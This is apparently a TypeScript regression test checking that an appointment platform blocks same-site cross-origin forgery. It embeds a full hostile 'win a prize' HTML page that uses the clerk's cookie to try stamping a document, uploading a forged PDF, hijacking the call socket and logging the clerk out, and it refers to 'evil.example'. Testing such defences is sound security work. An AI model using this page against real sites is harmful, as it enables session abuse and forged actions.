import { CallEvent } from '@oac/shared';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PDFDocument } from 'pdf-lib';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/browser';
import {
  api,
  ask,
  bookFor,
  connectSocket,
  DEMO,
  disconnected,
  login,
  startTestServer,
  type ClientSocket,
  type TestServer,
} from '../support/index';

/*
 * Issue 11, §2: a page on another port of the same host is same-site, so SameSite=Lax sends it the
 * clerk's cookie. From such a page an attacker joined the call (which dropped the real clerk),
 * uploaded a forged PDF under the clerk's name, stamped a document and logged the clerk out. The
 * attack runs here from a real Chromium page on another port, with the clerk's real session.
 */

let t: TestServer;
let browser: Browser;
let attacker: Server;
let attackerUrl: string;
let appointment: Awaited<ReturnType<typeof bookFor>>;
let documentId: string;
let clerkCookie: string;
let realClerk: ClientSocket;
/** Another port of the same host, which records the cookies a same-site request carries. */
let mirror: Server;
let mirrorUrl: string;
const mirrored: string[] = [];

/** What the hostile page does, each attempt reported as it went. */
function attackPage(target: string, mirror: string, appointmentId: string, docId: string): string {
  return `<!doctype html><meta charset="utf-8"><title>win a prize</title>
<iframe name="sink" style="display:none"></iframe>
<form id="f" method="post" action="${target}/api/auth/logout" target="sink" enctype="text/plain"><input name="x" value="y"></form>
<script>
const results = {};
const pending = [];
function attempt(name, fn) { pending.push(Promise.resolve().then(fn).then((r) => (results[name] = r), (e) => (results[name] = 'error ' + e.message))); }
attempt('mirror', () => fetch('${mirror}/probe', { method: 'POST', credentials: 'include', mode: 'no-cors' }).then((r) => r.type));
attempt('stamp', () => fetch('${target}/api/documents/${docId}/stamp', { method: 'POST', credentials: 'include', mode: 'no-cors' }).then((r) => r.type));
attempt('upload', () => {
  const form = new FormData();
  form.append('file', new Blob(['%PDF-1.4\\n% forged by a stranger\\n'], { type: 'application/pdf' }), 'forged.pdf');
  return fetch('${target}/api/appointments/${appointmentId}/documents', { method: 'POST', body: form, credentials: 'include', mode: 'no-cors' }).then((r) => r.type);
});
attempt('socket', () => new Promise((resolve) => {
  const frames = [];
  const ws = new WebSocket('${target.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket');
  ws.onmessage = (e) => {
    frames.push(e.data);
    if (e.data.startsWith('0{')) ws.send('40');
    if (e.data.startsWith('40')) ws.send('420["${CallEvent.join}",{"appointmentId":"${appointmentId}"}]');
    if (e.data.startsWith('430')) resolve(frames);
  };
  ws.onerror = () => resolve(['error', ...frames]);
  ws.onclose = () => resolve(['closed', ...frames]);
  setTimeout(() => resolve(['timeout', ...frames]), 4000);
}));
attempt('form', () => new Promise((resolve) => { document.getElementById('f').submit(); setTimeout(() => resolve('submitted'), 1000); }));
Promise.all(pending).then(() =>
  fetch('${target}/api/auth/logout', { method: 'POST', credentials: 'include', mode: 'no-cors' }).then((r) => (results.logout = r.type)),
).finally(() => { window.__results = results; document.title = 'done'; });
</script>`;
}

beforeAll(async () => {
  t = await startTestServer({ media: true });
  appointment = await bookFor(t, 'anna', 20);
  const pdf = await PDFDocument.create();
  pdf.addPage();
  const form = new FormData();
  form.append('file', new Blob([Buffer.from(await pdf.save())], { type: 'application/pdf' }), 'sollicitud.pdf');
  const uploaded = await api(t.url, `/api/appointments/${appointment.appointment.id}/documents`, { token: appointment.token, body: form });
  expect(uploaded.status).toBe(201);
  documentId = uploaded.body.id;
  clerkCookie = await login(t.url, DEMO.clerk.email, DEMO.clerk.password);
  realClerk = await connectSocket(t.url, { cookie: clerkCookie });
  expect(await ask(realClerk, CallEvent.join, { appointmentId: appointment.appointment.id })).toMatchObject({ ok: true });

  mirror = createServer((req, res) => {
    mirrored.push(req.headers.cookie ?? '');
    res.end();
  });
  await new Promise<void>((r) => mirror.listen(0, '127.0.0.1', () => r()));
  mirrorUrl = `http://127.0.0.1:${(mirror.address() as AddressInfo).port}`;
  attacker = createServer((_req, res) => {
    res.setHeader('content-type', 'text/html; charset=utf-8');
    res.end(attackPage(t.url, mirrorUrl, appointment.appointment.id, documentId));
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
  browser = await launchChromium();
});
afterAll(async () => {
  realClerk?.disconnect();
  await browser?.close();
  await new Promise((r) => attacker?.close(r));
  await new Promise((r) => mirror?.close(r));
  await t?.stop();
});

async function clerkBrowser() {
  const context = await browser.newContext();
  const [name, value] = clerkCookie.split('=') as [string, string];
  await context.addCookies([{ name, value, domain: '127.0.0.1', path: '/', httpOnly: true, sameSite: 'Lax' }]);
  return context;
}

describe('a page of another origin on the same site, with the clerk logged in', () => {
  it('can neither stamp, upload, join the call nor log the clerk out', async () => {
    const context = await clerkBrowser();
    const page = await context.newPage();
    const sent: string[] = [];
    page.on('request', (r) => {
      if (r.url().startsWith(t.url)) sent.push(`${r.method()} ${new URL(r.url()).pathname}`);
    });
    await page.goto(attackerUrl);
    await page.waitForFunction(() => document.title === 'done', undefined, { timeout: 20_000 });
    const results = (await page.evaluate(() => (window as unknown as { __results: Record<string, unknown> }).__results)) as Record<
      string,
      unknown
    >;
    await context.close();

    // The browser did send the requests, and a same-site request carries the clerk's cookie.
    expect(sent).toEqual(
      expect.arrayContaining([
        `POST /api/documents/${documentId}/stamp`,
        `POST /api/appointments/${appointment.appointment.id}/documents`,
        'POST /api/auth/logout',
      ]),
    );
    expect(mirrored).toEqual([clerkCookie]);
    // Nothing happened on the server.
    const docs = await t.db('documents').where({ appointment_id: appointment.appointment.id });
    expect(docs.map((d) => d.kind)).toEqual(['upload']);
    expect(docs[0].filename).toBe('sollicitud.pdf');
    expect((await api(t.url, '/api/auth/me', { cookie: clerkCookie })).status).toBe(200);
    // The socket was refused at the handshake: no join, and no ack came back.
    const frames = results.socket as string[];
    expect(frames.some((f) => f.startsWith('430'))).toBe(false);
    expect(realClerk.connected).toBe(true);
  });

  it('is refused with forbidden_origin, while the same requests from the platform itself work', async () => {
    const foreign = await api(t.url, `/api/documents/${documentId}/stamp`, {
      method: 'POST',
      cookie: clerkCookie,
      headers: { origin: attackerUrl.slice(0, -1) },
    });
    expect(foreign.status).toBe(403);
    expect(foreign.body.error.code).toBe('forbidden_origin');
    const sameSite = await api(t.url, '/api/auth/logout', {
      method: 'POST',
      cookie: clerkCookie,
      headers: { 'sec-fetch-site': 'same-site' },
    });
    expect(sameSite.body.error.code).toBe('forbidden_origin');
    await expect(connectSocket(t.url, { cookie: clerkCookie, origin: 'http://evil.example' })).rejects.toThrow();

    // The control: a page of the platform's own origin stamps, with the same cookie.
    const context = await clerkBrowser();
    const page = await context.newPage();
    await page.goto(`${t.url}/api/health`);
    const status = await page.evaluate(
      (id) => fetch(`/api/documents/${id}/stamp`, { method: 'POST', credentials: 'include' }).then((r) => r.status),
      documentId,
    );
    expect(status).toBe(201);
    await context.close();
    // The real clerk, in their call all along, loses it only now, by logging out from the platform.
    const gone = disconnected(realClerk);
    expect((await api(t.url, '/api/auth/logout', { method: 'POST', cookie: clerkCookie, headers: { origin: t.url } })).status).toBe(204);
    expect(await gone).toBe('io server disconnect');
  });
});
